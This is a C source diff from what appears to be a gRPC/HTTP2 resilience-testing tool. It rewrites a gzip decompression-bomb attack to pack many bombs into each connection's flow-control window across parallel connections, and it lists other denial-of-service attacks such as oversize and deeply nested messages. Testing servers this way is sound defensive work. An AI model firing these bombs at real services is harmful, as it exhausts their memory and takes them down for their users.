@@ -235,55 +235,71 @@ static uint8_t *compress_zeros(size_t size, size_t *compressed)
     return out;
 }
 
-/* One a connection: more would not fit into its window. */
 static bool send_bomb(peer *peer, const uint8_t *bomb, size_t size)
 {
     uint8_t block[H2_REQUEST_BYTES_MAX + 32], head[H2_MESSAGE_HEAD_BYTES];
     size_t block_size = h2_request(block, peer->attempt->path);
-    bool sent;
+    uint32_t stream = peer->next_stream;
 
+    peer->next_stream += 2;
     block_size += h2_header(block + block_size, "grpc-encoding", "gzip");
     h2_message_head(head, true, (uint32_t)size);
-    sent = peer_frame(peer, H2_HEADERS, H2_END_HEADERS, 1, block, block_size) &&
-           peer_frame(peer, H2_DATA, 0, 1, head, sizeof head);
-    while (sent && size > 0) {
-        size_t part = size < H2_PAYLOAD_BYTES_MAX ? size : H2_PAYLOAD_BYTES_MAX;
-
-        sent = peer_frame(peer, H2_DATA, part == size ? H2_END_STREAM : 0, 1, bomb, part);
-        bomb += part;
-        size -= part;
-    }
-    return sent && peer_flush(peer);
+    return peer_frame(peer, H2_HEADERS, H2_END_HEADERS, stream, block, block_size) &&
+           peer_frame(peer, H2_DATA, 0, stream, head, sizeof head) &&
+           peer_frame(peer, H2_DATA, H2_END_STREAM, stream, bomb, size);
 }
 
-static void gzip_bomb(attempt *attempt)
+/* As many on a connection as fit into its first window, on several connections at once. */
+static void send_bombs(attempt *attempt, size_t inflated)
 {
+    enum {
+        WINDOW_BYTES = 65535 /* RFC 9113, section 6.9.2 */
+    };
     size_t size, at = 0;
-    uint8_t *bomb = compress_zeros((size_t)32 * 1024 * 1024, &size);
+    uint8_t *bomb = compress_zeros(inflated, &size);
     peer *peers = calloc(PARALLEL, sizeof *peers);
+    bool sent = true;
 
-    if (peers == NULL)
+    if (peers == NULL || size > H2_PAYLOAD_BYTES_MAX)
         abort();
     for (size_t i = 0; i < PARALLEL; i++)
         peers[i].fd = -1;
-    for (; attempt_goes_on(attempt); attempt->units++) {
-        peer_close(&peers[at], true);
-        if (!peer_greet(&peers[at], attempt, true) || !send_bomb(&peers[at], bomb, size))
-            break;
-        at = (at + 1) % PARALLEL;
+    while (sent && attempt_goes_on(attempt)) {
+        peer *next = &peers[at++ % PARALLEL];
+
+        peer_close(next, true);
+        sent = peer_greet(next, attempt, true);
+        for (size_t i = 0; i < WINDOW_BYTES / (size + H2_MESSAGE_HEAD_BYTES) && sent; i++) {
+            sent = send_bomb(next, bomb, size);
+            attempt->units++;
+        }
+        sent = sent && peer_flush(next);
     }
-    peer_linger(&peers[(at + PARALLEL - 1) % PARALLEL], HOLD_MS);
+    if (at > 0)
+        peer_linger(&peers[(at - 1) % PARALLEL], HOLD_MS);
     for (size_t i = 0; i < PARALLEL; i++)
         peer_close(&peers[i], true);
     free(peers);
     free(bomb);
 }
 
+static void gzip_bomb(attempt *attempt)
+{
+    send_bombs(attempt, (size_t)LIMIT_BYTES * 3);
+}
+
+static void gzip_full(attempt *attempt)
+{
+    send_bombs(attempt, LIMIT_BYTES);
+}
+
 const attack message_attacks[] = {
     {"oversize_messages", "messages", 200, oversize_messages, "6 MiB, where 4 are allowed"},
     {"null_payloads", "calls", 5000, null_payloads,
      "no message, two, half of one, or another length than it says"},
-    {"gzip_bomb", "messages", 3000, gzip_bomb, "32 KiB that inflate to 32 MiB"},
+    {"gzip_bomb", "messages", 3000, gzip_bomb,
+     "12 KiB that inflate to 12 MiB, where 4 are allowed"},
+    {"gzip_full", "messages", 3000, gzip_full, "4 KiB that inflate to the 4 MiB that are allowed"},
     {"nested_messages", "messages", 2000, nested_messages, "nested 10,000 deep"},
     {"nested_groups", "messages", 2000, nested_groups, "unknown groups, 10,000 deep"},
     {"empty_submessages", "messages", 100, empty_submessages,
